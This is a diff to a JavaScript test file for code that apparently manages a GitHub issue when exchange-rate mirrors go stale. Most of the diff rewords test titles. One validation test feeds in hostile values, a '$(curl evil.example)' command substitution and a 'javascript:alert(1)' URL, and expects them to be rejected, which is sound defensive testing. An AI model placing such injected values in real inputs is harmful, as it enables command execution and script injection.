@@ -22,8 +22,8 @@ describe('longStaleness', () => {
   const snapshot = { ...rest, staleSince: since };
 
   it.each([
-    ['null in the first day', '2026-10-01T00:22:59.999Z', null],
-    ['the start and what the mirrors had after a day', '2026-10-01T00:23:00.000Z', stale],
+    ['null if the rates have been stale for less than a day', '2026-10-01T00:22:59.999Z', null],
+    ['the start of staleness and each mirror’s outcome after a day', '2026-10-01T00:23:00.000Z', stale],
   ])('returns %s', (_, checkedAt, expected) => {
     expect(longStaleness({ ...snapshot, checkedAt })).toEqual(expected);
     expect(longStaleness({ ...snapshot, checkedAt, staleSince: null })).toBeNull();
@@ -31,7 +31,7 @@ describe('longStaleness', () => {
 });
 
 describe('keepStaleIssue', () => {
-  it('opens one issue that says since when, and what each mirror returned', async () => {
+  it('opens one issue that states the start of staleness and each mirror’s response', async () => {
     for (let times = 0; times < 2; times++) await keep(stale);
     expect(workflow.api.issues).toMatchObject([{ state: 'open', title: 'The rates have been stale for a day' }]);
     const { body = '' } = workflow.api.issues[0] ?? {};
@@ -45,14 +45,14 @@ describe('keepStaleIssue', () => {
     expect(workflow.api.edits).toEqual([]);
   });
 
-  it('edits the text without a comment when a mirror returns something else', async () => {
+  it('edits the text without a comment if a mirror’s response changes', async () => {
     await keep(stale);
     await keep({ ...stale, mirrors: [{ mirror: first, outcome: 'failed', date: null }] });
     expect(workflow.api.edits).toEqual(['body']);
     expect(workflow.api.issues).toMatchObject([{ state: 'open', comments: [] }]);
   });
 
-  it('closes the issue when a publish succeeds with fresh rates, and opens another issue next time', async () => {
+  it('closes the issue if a publish has fresh rates, and opens another issue the next time', async () => {
     await keep(stale);
     await keep(null, 'failure');
     expect(workflow.api.issues).toMatchObject([{ state: 'open' }]);
@@ -64,7 +64,7 @@ describe('keepStaleIssue', () => {
     expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
   });
 
-  it('keeps an issue closed that a person has closed, until the rates become stale again', async () => {
+  it('doesn’t reopen an issue that a person closed, until the rates become stale again', async () => {
     await keep(stale);
     Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
     await keep({ ...stale, mirrors: [] });
@@ -73,7 +73,7 @@ describe('keepStaleIssue', () => {
     expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
   });
 
-  it('changes nothing without the output of a publish', async () => {
+  it('changes nothing if the publish had no output', async () => {
     await keep(stale);
     await keep('');
     await keep('', 'failure');
@@ -91,7 +91,7 @@ describe('keepStaleIssue', () => {
     withMirror({ mirror: 'javascript:alert(1)' }),
     withMirror({ outcome: '$(curl evil.example)' }),
     withMirror({ date: '@me' }),
-  ])('throws and changes nothing when the output is %s', async (output) => {
+  ])('throws and changes nothing if the publish’s output is invalid: %s', async (output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     expect(workflow.api.issues).toEqual([]);
   });
